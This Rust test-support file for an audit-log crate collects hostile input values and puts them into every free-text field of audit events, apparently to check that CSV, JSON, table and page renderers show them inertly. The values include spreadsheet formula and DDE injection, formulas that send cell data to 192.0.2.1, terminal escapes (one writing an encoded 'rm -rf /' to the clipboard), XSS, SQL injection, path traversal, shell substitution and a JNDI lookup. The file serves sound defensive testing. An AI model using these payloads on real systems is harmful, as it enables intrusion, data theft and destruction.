//! Values that attackers choose, for whatever shows events: JSON, CSV, tables, pages.
//!
//! [`VALUES`] are named, so that a failure says which one it was; [`events`] puts each of them into every field of an
//! event that takes free text. What shows them must show each as text, and nothing else may happen.

#![allow(dead_code)] // Each test binary uses another part.

use std::borrow::Cow;

use tower_audit::event::{EventField, FIELDS, Target};
use tower_audit::{AuditEvent, EventType, Timestamp};

/// Formulas, links and calls of spreadsheets, with any separator of cells.
pub(crate) const FORMULAS: &[(&str, &str)] = &[
    ("sum", "=1+1"),
    ("sum with blanks before it", "  =1+1"),
    ("plus", "+1+1"),
    ("minus", "-1+1"),
    ("at", "@SUM(1;1)"),
    ("tab before a formula", "\t=1+1"),
    ("carriage return before a formula", "\r=1+1"),
    ("line feed before a formula", "\n=1+1"),
    ("line breaks before a formula", "a\r\n=1+1"),
    ("wide sign", "＝1+1"),
    ("link", "=HYPERLINK(\"http://192.0.2.1/?q=\"&A1;\"open\")"),
    ("dynamic data exchange", "=cmd|' /C calc'!A0"),
    ("remote data", "=WEBSERVICE(\"http://192.0.2.1/\")"),
    ("formula behind a semicolon", "a;=1+1"),
    ("formula behind a semicolon and a blank", "a; =1+1"),
    ("formula behind a tab", "a\t=1+1"),
    ("formula behind a comma", "a,=1+1"),
    ("formula behind a quote", "\";=1+1;\""),
    ("formula behind a quote and a comma", "\",=1+1,\""),
    ("formula behind a line break and a quote", "\"\r\n=1+1"),
    ("formula in quotes", "\"=1+1\""),
    ("formula behind an apostrophe and a semicolon", "';=1+1"),
    ("formula behind no-break space", "\u{a0}=1+1"),
    ("formula behind a zero-width space", "\u{200b}=1+1"),
    ("formula behind a byte order mark", "\u{feff}=1+1"),
    ("array formula", "{=1+1}"),
];

/// Control sequences of terminals.
pub(crate) const TERMINAL: &[(&str, &str)] = &[
    ("clears the screen", "\u{1b}[2J\u{1b}[1;1H"),
    ("clears the screen, eight bits", "\u{9b}2J"),
    ("sets the title", "\u{1b}]0;owned\u{7}"),
    ("writes the clipboard", "\u{1b}]52;c;cm0gLXJmIC8=\u{7}"),
    ("hides a link", "\u{1b}]8;;http://192.0.2.1/\u{1b}\\here\u{1b}]8;;\u{1b}\\"),
    ("asks the terminal to type", "\u{1b}[c\u{1b}[6n\u{1b}[>q"),
    ("hides what comes", "\u{1b}[8m"),
    ("changes the character set", "\u{e}\u{f}\u{1b}(0"),
    ("overwrites the line", "mallory\ralice"),
    ("forges a line", "x\n2026-05-25 12:00:00  upload  completed  alice"),
    ("deletes what was there", "403\u{8}\u{8}\u{8}200\u{7f}"),
    ("rings", "\u{7}\u{7}\u{7}"),
    ("device control", "\u{1b}P+q544e\u{1b}\\\u{90}0;0|\u{9c}"),
];

/// Text shown in another order, invisible, or as something else.
pub(crate) const LOOKS: &[(&str, &str)] = &[
    ("right-to-left override", "\u{202e}gpj.exe"),
    ("isolates that do not end", "\u{2066}\u{2067}\u{2068}a"),
    ("embeddings that do not end", "\u{202a}\u{202b}\u{202d}a"),
    ("marks of direction", "a\u{200e}\u{200f}\u{61c}b"),
    ("zero-width characters", "ali\u{200b}ce\u{200c}\u{200d}\u{2060}\u{feff}"),
    ("soft hyphen", "ali\u{ad}ce"),
    ("tags that smuggle text", "ok\u{e0041}\u{e0042}\u{e007f}"),
    ("variation selectors", "a\u{fe0f}\u{e0100}"),
    ("blanks of all kinds", "a\u{a0}b\u{2003}c\u{3000}d\u{1680}e\u{202f}f"),
    ("letters that are empty", "\u{3164}\u{115f}\u{2800}\u{ffa0}"),
    ("separators of lines", "a\u{2028}b\u{2029}c\u{85}d\u{b}e\u{c}f"),
    ("marks that pile up", "Z\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}a\u{334}\u{489}"),
    ("twins of letters", "аlice@еxample.org"),
    ("right to left as it should be", "שלום مرحبا"),
    ("beyond the first plane", "👩‍👩‍👧‍👦 𝕬 \u{10ffff} \u{fffe}"),
    ("replacement", "\u{fffd}\u{fffd}"),
    ("nothing", ""),
    ("a blank", " "),
    ("a dash", "-"),
    ("null as a word", "null"),
];

/// Markup of browsers and templates.
pub(crate) const MARKUP: &[(&str, &str)] = &[
    ("script", "<script>alert(1)</script>"),
    ("script behind an attribute", "\"><script>alert(1)</script>"),
    ("handler", "\" onmouseover=\"alert(1)"),
    ("handler in single quotes", "' onfocus='alert(1)' autofocus='"),
    ("handler without quotes", "x onerror=alert(1)"),
    ("image", "<img src=x onerror=alert(1)>"),
    ("vector image", "<svg/onload=alert(1)>"),
    ("end of what it may be in", "</title></textarea></style></script></svg><b>"),
    ("comment", "--><!--<b>"),
    ("section of characters", "]]><b><![CDATA["),
    ("address that runs", "javascript:alert(1)"),
    ("address that holds a page", "data:text/html,<script>alert(1)</script>"),
    ("address of another site", "//192.0.2.1/x"),
    ("character references", "&lt;b&gt;&#60;b&#62;&amp;amp;&notit;"),
    ("template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{%raw%}"),
    ("style", "x:expression(alert(1));background:url(//192.0.2.1)"),
    ("old encoding", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("base", "<base href=//192.0.2.1/><meta http-equiv=refresh content=0>"),
    ("header", "a\r\nset-cookie: x=y\r\n\r\n<b>"),
];

/// Syntax of parsers, paths, patterns and SQL.
pub(crate) const SYNTAX: &[(&str, &str)] = &[
    ("end of a JSON text", "\"}],\"event_id\":\"00\"}"),
    ("backslashes", "\\\\\\\"\\u0041\\n\\"),
    ("escape that is none", "\\u{202e}\\x1b%1b&#x1b;"),
    ("statement", "'; DROP TABLE audit_events;--"),
    ("placeholders", "$1 ?1 :name %s %n {0} {}"),
    ("pattern", "*%_?\\*!*"),
    ("way out", "../../../../etc/passwd"),
    ("way out, encoded", "%2e%2e%2f%00%c0%af"),
    ("query", "?user_email=root&limit=0#x"),
    ("plus and percent", "a+b%20c%"),
    ("shell", "$(id)`id`;id|id&&id"),
    ("look-up", "${jndi:ldap://192.0.2.1/a}"),
    ("dots", ".."),
    ("number that is none", "NaN"),
    ("number that is long", "1e999"),
    ("key of all objects", "__proto__"),
];

/// All of these, and values too long to be written down.
pub(crate) fn values() -> Vec<(&'static str, Cow<'static, str>)> {
    let written = [FORMULAS, TERMINAL, LOOKS, MARKUP, SYNTAX].concat();
    let mut values: Vec<_> = written.into_iter().map(|(name, value)| (name, Cow::Borrowed(value))).collect();
    let megabyte = |text: &str| Cow::Owned(text.repeat((1 << 20) / text.len()));
    values.extend([
        ("every control character", (0..0xa0u8).map(char::from).filter(|c| c.is_control()).collect()),
        ("a megabyte of letters", megabyte("a")),
        ("a megabyte of markup", megabyte("<b onclick=x>")),
        ("a megabyte of quotes", megabyte("\"")),
        ("a megabyte of overrides", megabyte("\u{202e}")),
        ("a megabyte of marks", megabyte("\u{301}")),
        ("a megabyte of wide letters", megabyte("日本")),
        ("a megabyte of formulas", megabyte("\n=1+1;")),
    ]);
    values
}

/// An event with this value in every field of free text, truncated as the log does it.
pub(crate) fn event(value: &str) -> AuditEvent {
    let mut event = unfit(value);
    event.truncate_to_limits();
    event
}

/// The event before truncation: no log stores it, but another program may have put it into a table.
pub(crate) fn unfit(value: &str) -> AuditEvent {
    let mut event = AuditEvent::new(EventType::UPLOAD);
    for field in FIELDS {
        field.set_text(&mut event, value);
    }
    event.targets.insert(Target::new("order", value).with_label(value));
    event.targets.insert(Target::new(value, 7));
    event.outcome = Some(200);
    event.details.insert("value".into(), value.into());
    event.details.insert(value.into(), serde_json::json!([value, { value: value }]));
    for extra in [
        &mut event.extra,
        &mut event.actor.extra,
        &mut event.resource.extra,
        &mut event.request.extra,
        &mut event.classification.extra,
    ] {
        extra.insert("later".into(), value.into());
    }
    event
}

/// An event for each of [`values`], a second apart, oldest first, with the name of its value in `details.name`.
pub(crate) fn events() -> Vec<AuditEvent> {
    let first: Timestamp = "2026-05-01T00:00:00Z".parse().expect("a time");
    values()
        .iter()
        .zip(0i64..)
        .map(|((name, value), n)| {
            let mut event = event(value);
            event.created_at = Timestamp::from_micros(first.as_micros() + n * 1_000_000).expect("in range");
            event.details.insert("name".into(), (*name).into());
            event.truncate_to_limits();
            event
        })
        .collect()
}

/// The fields of an event that take free text, by their names in CSV.
pub(crate) fn texts(event: &AuditEvent) -> impl Iterator<Item = (&'static str, Option<Cow<'_, str>>)> {
    let takes_text = |field: &&EventField| field.set_text(&mut AuditEvent::new(EventType::UPLOAD), "");
    FIELDS.iter().filter(takes_text).map(|field| (field.name(), field.value_of(event)))
}
